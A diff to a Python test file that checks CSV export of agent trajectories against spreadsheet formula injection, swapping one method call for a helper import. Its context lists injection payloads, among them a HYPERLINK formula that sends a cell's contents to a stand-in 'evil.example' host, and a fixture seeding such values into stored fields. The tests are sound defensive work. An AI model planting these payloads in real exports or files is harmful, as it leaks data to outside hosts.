@@ -15,6 +15,7 @@ from gcpc_core.csv_safe import csv_cell, csv_value, frame_csv
 from gcpc_core.models import Event, Task, Trajectory
 from gcpc_core.store import Store
 from annotations.targets import add_annotation
+from store.helpers import replace_trajectory
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
             "\n=1+1", "\0=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "  =1+1", "\u3000=1+1", '=1+2";=1+2',
@@ -57,7 +58,7 @@ def evil_db(tmp_path: Path) -> Path:
     traj = Trajectory(id="=HYPERLINK(\"http://x/\"&A1)", task="@task", agent="+agent", model="-model", condition="unknown",
                       outcome="FAIL", reward=0.0, source_path="=/data/trial", log_path="agent/log.jsonl",
                       log_format="gcpc-jsonl")  # type: ignore[arg-type]
-    store.trials.replace_trajectory(traj, [Event(id="E1", seq=1, kind="tool_call", text="ls")])  # type: ignore[arg-type]
+    replace_trajectory(store, traj, [Event(id="E1", seq=1, kind="tool_call", text="ls")])  # type: ignore[arg-type]
     add_annotation(store, kind="item_audit", rater="=rater", value={"agree": True, "verdict": None}, task="@task",
                          trajectory_id=traj.id, item_id="C1", judge="probe", note='=1+2";=1+2')
     store.close()
